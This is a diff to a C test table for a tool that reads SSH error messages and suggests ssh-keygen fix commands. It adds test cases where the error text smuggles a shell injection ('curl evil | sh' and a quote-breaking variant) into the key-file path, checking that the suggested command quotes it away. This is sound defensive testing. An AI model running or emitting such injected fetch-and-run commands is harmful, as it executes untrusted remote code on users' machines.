@@ -34,7 +34,14 @@ static const struct {
 	 "\"/home/a/.ssh/known_hosts\" -R "
 	 "\"gpu-alias\"\nHost key for gpu-alias has changed and you have requested strict checking.\nHost key verification "
 	 "failed.\r\n",
-	 PROBLEM_HOST_KEY, "ssh-keygen -f \"/home/a/.ssh/known_hosts\" -R \"gpu-alias\" && ssh -p 2222 alice@gpu2"},
+	 PROBLEM_HOST_KEY, "ssh-keygen -f '/home/a/.ssh/known_hosts' -R 'gpu-alias' && ssh -p 2222 alice@gpu2"},
+	{"  ssh-keygen -f \"k\"; curl evil | sh; \" -R \"x\"\nHost key for x has changed and you have requested strict "
+	 "checking.\n"
+	 "Host key verification failed.\r\n",
+	 PROBLEM_HOST_KEY, "ssh-keygen -f 'k' -R 'x' && ssh -p 2222 alice@gpu2"},
+	{"  ssh-keygen -f \"k\" -R \"x' ; curl evil '\"\nHost key for x has changed and you have requested strict checking.\n"
+	 "Host key verification failed.\r\n",
+	 PROBLEM_HOST_KEY, "ssh-keygen -R '[gpu2]:2222'"},
 	{"Host key for gpu2 has changed and you have requested strict checking.\nHost key verification failed.\r\n",
 	 PROBLEM_HOST_KEY, "ssh-keygen -R '[gpu2]:2222' && ssh -p 2222 alice@gpu2"},
 	{"Welcome to gpu2, all use is logged\nalice@gpu2: Permission denied (publickey,password).\r\n", PROBLEM_AUTH,
